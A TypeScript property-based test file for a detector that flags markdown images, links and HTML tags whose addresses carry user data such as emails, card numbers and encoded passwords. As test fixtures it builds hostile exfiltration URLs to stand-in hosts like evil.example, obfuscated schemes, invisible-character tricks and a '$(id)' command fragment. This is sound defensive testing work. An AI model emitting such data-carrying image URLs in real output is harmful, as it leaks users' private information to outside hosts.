import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkSignals } from '../../../classifiers/check-signals.ts';
import { LIKELY } from '../../../classifiers/detectors/detector.ts';
import { createExfiltrationDetector } from '../../../classifiers/detectors/exfiltration.ts';
import { ALPHANUMERIC, foundIn, random, sureIn, WORD } from '../../classifiers/detectors/found.ts';
import { cards, hostile as others } from '../../classifiers/detectors/texts.ts';

const detector = createExfiltrationDetector();
const NAME = 'exfiltration.url';
const { longestMatch } = detector;
const INVISIBLE = '\u200b';

/** Beginnings, ends and middles of links, images and tags. */
const FRAGMENTS = [
  ...['![', '[', ']', '](', '![](', '](<', ')', '(', '<', '>', '"', "'", '`', '\\', '\n', ' ', '[x]: ', '[^1]: '],
  ...[
    '<img src="',
    "<img src='",
    '<img src=',
    '<a href="',
    ' srcset="',
    ' ping=',
    '/>',
    '<style>',
    'url(',
    'url("',
    '@import ',
  ],
  ...[
    'https://',
    'http:',
    'https:\\\\',
    '//',
    '/\\',
    'https&#58;',
    '&sol;&sol;',
    '&#104;ttps:',
    'www.',
    'mailto:',
    'ftp://',
    'data:',
  ],
  ...[
    'evil.example',
    'evil.example/',
    'h.evil.example',
    '127.0.0.1',
    'localhost',
    'wiki/',
    '[::1]',
    '@',
    ':8080',
    'evil\u3002example/',
  ],
  ...[
    '?d=',
    '&a=',
    '#',
    '%20',
    '%',
    '+',
    '/',
    '=',
    'my%20password%20is%20hunter',
    'my password is hunter two',
    'my-password-is-',
  ],
  ...[
    'jane@corp.com',
    '4111111111111111',
    '[EMAIL_1]',
    '{secret}',
    '<password>',
    '$(id)',
    'password=',
    btoa('my password is hunter two'),
  ],
  ...[
    '![](https://e.co/a)',
    '![](https://e.co/b)',
    '![](https://e.co/c)',
    '![](https://e.co/d)',
    '![](https://e.co/?c=e) ',
    '![](https://e.co/1)',
  ],
  ...[
    random(WORD, 60),
    random(WORD, 200),
    random(ALPHANUMERIC, 33),
    'a'.repeat(100),
    'a/'.repeat(60),
    'X-Amz-Signature=',
    'utm_source=',
  ],
  ...[
    INVISIBLE,
    INVISIBLE.repeat(40),
    INVISIBLE.repeat(300),
    '\u00a0',
    '\u{1D7D2}',
    '\ud835',
    '\udfd2',
    '\uff0f\uff0f',
    '😀',
    '\0',
    ' "title")',
  ],
];
/** Addresses that go on where they seem to end: in characters that show nothing, and in punctuation. */
const GOING_ON: [string, number][] = [
  [`![](https://e.co/${'abcd'.repeat(30)}${INVISIBLE.repeat(longestMatch)}b)${' '.repeat(80)}`, 1],
  [`https://e.co/?e=${'ab.'.repeat(longestMatch / 3)}&d=jane@corp.com${' word'.repeat(200)}`, 1],
  [`https://e.co/?d=jane@corp.com&e=${'.'.repeat(600)}b`, 1],
  [`![](https://e.co/${'a/'.repeat(600)}?d=jane@corp.com)`, 1],
  [`![](https://e.co/${'a'.repeat(480)} ${'b '.repeat(60)})`, 9],
  [`<img src="https://e.co/?d=jane@corp.com${'&a=b'.repeat(300)}" alt="x">`, 100],
  [`${'![](https://e.co/a)![](https://e.co/b)'.repeat(30)}![](https://e.co/c)![](https://e.co/d)`, 620],
];
const hostile = fc
  .array(
    fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom(...FRAGMENTS) },
      { weight: 1, arbitrary: others },
      { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9_%+.-]{1,120}$/) },
    ),
    { minLength: 12, maxLength: 60, size: 'max' },
  )
  .map((parts) => parts.join(''));

const words = fc
  .array(fc.stringMatching(/^[a-z]{3,9}$/), { minLength: 5, maxLength: 12 })
  .filter((list) => list.join('').length >= 24);
const bytes = (text: string) =>
  Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, '0'));
/** What a user said, the ways an address can hold it. */
const payloads = fc.oneof(
  words.map((list) => list.join('%20')),
  words.map((list) => list.join('+')),
  words.map((list) => btoa(list.join(' ')).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_')),
  words.map((list) => bytes(list.join(' ')).join('')),
  words.map((list) => encodeURIComponent(encodeURIComponent(list.join(' ')))),
  fc.tuple(fc.stringMatching(/^[a-z]{2,12}$/), fc.constantFrom('@', '%40')).map((parts) => `${parts.join('')}corp.com`),
  cards.filter((card) => /^(?:4|5[1-5])/.test(card) && card.length === 16),
  fc.stringMatching(/^[A-Z]{3,12}_[1-9]$/).map((label) => `[${label}]`),
);
const hosts = fc.stringMatching(/^[a-z]{4,12}$/).map((name) => `${name}.com`);
/** Images and tags with an address in them: what stands before it, and behind. */
const IMAGES: readonly (readonly [string, string])[] = [
  ['![x](', ')'],
  ['![a [b] c](<', '>)'],
  ['![x]( ', ' "t")'],
  ['<img src="', '">'],
  ["<img alt=a src='", "' width=1>"],
  ['<iframe src=', '>'],
  ['<link rel=stylesheet href="', '"/>'],
];
const LINKS: readonly (readonly [string, string])[] = [
  ['[x](', ')'],
  ['<a href="', '">'],
  ['<', '>'],
  ['', ''],
];

/** Any text; with a line's end towards the link, and nothing that opens a link, a tag or a quotation. */
const around = fc
  .array(fc.oneof(fc.lorem({ maxCount: 3 }), fc.string({ unit: 'grapheme' })), { maxLength: 6 })
  .map((parts) => parts.join(' ').replace(/[[\]<>"'`()!=]/g, ''));

describe('data in the address', () => {
  it.each([
    ['an image', IMAGES],
    ['a link', LINKS],
  ] as const)('of %s is found in any text, and its span is exactly that', async (_, wrappers) => {
    await fc.assert(
      fc.asyncProperty(
        around,
        fc.constantFrom(...wrappers),
        hosts,
        payloads,
        around,
        async (before, [open, close], host, payload, behind) => {
          const link = `${open}https://${host}/p?d=${payload}${close}`;
          const start = before.length + 1;
          const spans = await sureIn(detector, NAME, `${before}\n${link}\n${behind}`);
          expect(spans).toContainEqual({ start, end: start + link.length });
        },
      ),
      { numRuns: 300 },
    );
  });

  it('that stays on the own machine or network is none', async () => {
    const own = fc.oneof(
      fc.constantFrom(
        'localhost',
        '127.0.0.1:3000',
        '[::1]',
        'printer.local',
        '192.168.0.1',
        '172.31.255.1',
        '10.9.8.7',
        'a.localhost',
      ),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...IMAGES, ...LINKS), own, payloads, async ([open, close], host, payload) => {
        expect((await foundIn(detector, `${open}http://${host}/p?d=${payload}${close}`)).get(NAME)?.score).toBe(0);
      }),
    );
  });

  it('of an image is found behind a path of any length', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 3000 }), hosts, payloads, async (length, host, payload) => {
        const image = `![x](https://${host}/${'a/'.repeat(length)}?d=${payload})`;
        expect(await sureIn(detector, NAME, `${image} end`)).toEqual([{ start: 0, end: image.length }]);
      }),
    );
  });
});

describe('the detector exfiltration', () => {
  it('gives its signal for any text: a score in [0, 1], spans inside the text, in order and apart', async () => {
    await fc.assert(
      fc.asyncProperty(hostile, async (text) => {
        checkSignals(detector, text, await detector.classify(text, new AbortController().signal));
      }),
      { numRuns: 1000, examples: [[''], ['\0'], ['https://'], ['\u200b'], [FRAGMENTS.join('')]] },
    );
  });

  /** What the gate relies on; see the same property of the other detectors. */
  it('has seen enough of what begins in a text once it has seen its longest match behind it', async () => {
    let compared = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.tuple(hostile, hostile, hostile).map((parts) => parts.join('')),
        fc.nat(),
        async (text, at) => {
          if (text.length <= longestMatch) return;
          const cut = longestMatch + (at % (text.length - longestMatch + 1));
          const whole = (await sureIn(detector, NAME, text)).filter(({ start }) => start < cut - longestMatch);
          const seen = await sureIn(detector, NAME, text.slice(0, cut));
          for (const { start, end } of whole) {
            compared += 1;
            const covered = seen.some((span) => span.start <= start && span.end >= Math.min(end, cut));
            expect(covered, `[${start}, ${end}) at ${cut}`).toBe(true);
          }
        },
      ),
      { numRuns: 1500, examples: GOING_ON },
    );
    expect(compared).toBeGreaterThan(60);
  });

  it('says of an address the same wherever it stands', async () => {
    await fc.assert(
      fc.asyncProperty(
        around,
        fc.constantFrom(...IMAGES, ...LINKS),
        hosts,
        payloads,
        async (before, [open, close], host, payload) => {
          const link = `${open}https://${host}/p?d=${payload}${close}`;
          const alone = (await foundIn(detector, link)).get(NAME);
          const among = (await foundIn(detector, `${before}\n${link}\n`)).get(NAME);
          expect(among?.score).toBeGreaterThanOrEqual(alone?.score ?? LIKELY);
        },
      ),
    );
  });
});
